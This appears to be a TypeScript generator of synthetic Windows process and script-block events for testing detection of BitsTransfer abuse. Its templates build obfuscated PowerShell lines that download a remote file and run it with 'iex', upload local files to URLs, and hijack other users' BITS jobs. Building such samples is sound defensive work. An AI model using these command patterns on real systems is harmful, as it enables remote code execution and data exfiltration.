/** The BitsTransfer cmdlets. */
import { processEvent, scriptEvent } from '../events.js';
import type { Event } from '../events.js';
import { encodedLine, HOST, hosted, hostLine, nested, statement, wrapped } from '../powershell.js';
import type { Call, Kept, Way } from '../powershell.js';
import { hostName, path, share, url } from '../words.js';
import type { Scene } from '../words.js';
import type { Acts } from './acts.js';

/** In half of them as it is. */
const HIDDEN: readonly Way[] = ['backtick', 'joined', 'format', 'wildcard', 'variable', 'alias', 'quoted', 'parts', 'inserted', 'replaced', 'reversed', 'letters'];

function value({ chance }: Scene, text: string): string {
  return /[\s&;(),]/.test(text) || chance.is(0.6) ? `'${text}'` : text;
}

/** Where a script puts a file: a path, or a folder out of the environment. */
function destination(scene: Scene): string {
  const { chance } = scene;
  return chance.is(0.4) ? `$env:${chance.cased(chance.pick(['temp', 'APPDATA', 'ALLUSERSPROFILE', 'public', 'TMP', 'ProgramData']))}\\${chance.letters(1, 8)}.${chance.pick(['exe', 'ps1', 'dll', 'txt', 'tmp'])}` : value(scene, path(scene));
}

function download(scene: Scene, remote = url(scene)): Call {
  return { cmdlet: 'Start-BitsTransfer', parameters: [['Source', value(scene, remote)], ['Destination', destination(scene)], ...(scene.chance.is(0.3) ? [['Priority', scene.chance.pick(['foreground', 'High', 'Normal'])] as const] : []), ...(scene.chance.is(0.2) ? [['Asynchronous'] as const] : [])] };
}

function upload(scene: Scene): Call {
  return { cmdlet: 'Start-BitsTransfer', parameters: [['Source', value(scene, path(scene))], ['Destination', value(scene, url(scene))], ['TransferType', scene.chance.pick(['Upload', 'UploadReply'])], ...(scene.chance.is(0.4) ? [['Asynchronous'] as const] : [])] };
}

/** In one of the ways, encoded or built at run time too; a log of scripts sees what it becomes. */
function called(scene: Scene, call: Call, kept: Kept, before = ''): readonly Event[] {
  const { chance } = scene;
  const plain = `${before}${statement(scene, call, chance.is(0.5) ? 'plain' : chance.pick(HIDDEN))}`;
  const script = chance.is(0.2) ? wrapped(scene, plain) : plain;
  if (kept === 'line' || chance.is(0.75)) return hosted(scene, script, kept, kept === 'both' && chance.is(0.2));
  return [...hosted(scene, nested(scene, script), kept), scriptEvent(scene, script)];
}

export const powershellActs: Acts = {
  F01: (scene) => called(scene, download(scene), 'line'),
  F02: (scene) => called(scene, { ...download(scene), byPlace: true }, 'both'),
  F03: (scene) => {
    const { chance } = scene;
    const place = `$env:temp\\${chance.letters(1, 4)}`;
    const call: Call = { cmdlet: 'Start-BitsTransfer', byPlace: true, parameters: [['Source', `'${url(scene)}'`], ['Destination', place]] };
    return [processEvent(scene, { ...HOST, line: hostLine(scene, `${chance.cased(chance.pick(['Import-Module', 'ipmo']))} bitstransfer;${statement(scene, call, 'plain')};$r=gc ${place};rm ${place}; iex $r`) })];
  },
  F04: (scene) => called(scene, download(scene), 'script'),
  F05: (scene) => [processEvent(scene, { ...HOST, line: encodedLine(scene, statement(scene, { ...download(scene), byPlace: scene.chance.is(0.5) }, 'plain')) })],
  F06: (scene) => hosted(scene, `$NULL=${statement(scene, { ...download(scene), byPlace: true }, 'wildcard')}`, 'both'),
  F09: (scene) => hosted(scene, statement(scene, { ...download(scene), byPlace: true }, 'backtick'), 'both'),
  F10: (scene) => {
    const { chance } = scene;
    const job = `$${chance.letters(1, 4)}`;
    return [scriptEvent(scene, `${job}=${chance.cased('Start-BitsTransfer')} -Suspended; Import-Csv ${path(scene, 'txt')} | ${chance.cased('Add-BitsFile')} -BitsJob ${job}; ${chance.cased('Resume-BitsTransfer')} ${job} -Asynchronous; ${chance.cased('Complete-BitsTransfer')} ${job}`)];
  },
  F11: (scene) => called(scene, upload(scene), 'line'),
  F15: (scene) => {
    const { chance } = scene;
    const parameters: Call['parameters'] = [['CustomHeaders', `'X-${chance.letters(2, 5)}: ${chance.digits(2)}'`], ...chance.shuffled<Call['parameters'][number]>([['CustomHeadersWriteOnly'], ['HttpMethod', chance.pick(['POST', 'PUT'])], ['SecurityFlags', '30']]).slice(0, chance.whole(1, 3))];
    return called(scene, { cmdlet: 'Set-BitsTransfer', parameters: [['BitsJob', `$${chance.letters(1, 4)}`], ...parameters] }, 'script');
  },
  F16: (scene) => hosted(scene, `${scene.chance.cased('Get-BitsTransfer')} -AllUsers | ${scene.chance.cased('Set-BitsTransfer')} ${scene.chance.cased('-SetOwnerToCurrentUser')}`, 'line'),
  F17: (scene) => hosted(scene, `${scene.chance.pick(['Import-Csv', 'ipcsv'])} ${path(scene, 'csv')} | ${scene.chance.cased('Start-BitsTransfer')} -TransferType Upload`, 'line'),
  F18: (scene) => called(scene, { cmdlet: 'Start-BitsTransfer', parameters: scene.chance.is(0.6) ? [['Source', share(scene)], ['Destination', path(scene, 'exe')]] : [['Source', path(scene)], ['Destination', share(scene)]] }, 'line'),
  F19: (scene) => {
    const program = scene.chance.pick(['pwsh', 'pwsh.exe', '"C:\\Program Files\\PowerShell\\7\\pwsh.exe"']);
    const script = `Import-Module BitsTransfer -UseWindowsPowerShell; ${statement(scene, { ...download(scene, url(scene, { host: hostName(scene) })), byPlace: scene.chance.is(0.6) }, 'plain')}`;
    return [processEvent(scene, { image: 'C:\\Program Files\\PowerShell\\7\\pwsh.exe', original: 'pwsh.dll', line: hostLine(scene, script, program) })];
  },
  F20: (scene) => {
    const image = scene.chance.pick(['C:\\Windows\\System32\\rundll32.exe', 'C:\\Windows\\System32\\regsvr32.exe', 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe', path(scene, 'exe')]);
    return [...called(scene, { ...download(scene), byPlace: true }, 'script'), { kind: 'I', Computer: scene.computer, Image: image, ImageLoaded: 'C:\\Windows\\System32\\BitsProxy.dll', Signed: 'true', Signature: 'Microsoft Windows', User: scene.user }];
  },
  F24: (scene) => [scriptEvent(scene, statement(scene, { ...download(scene), byPlace: true }, 'alias'))],
};
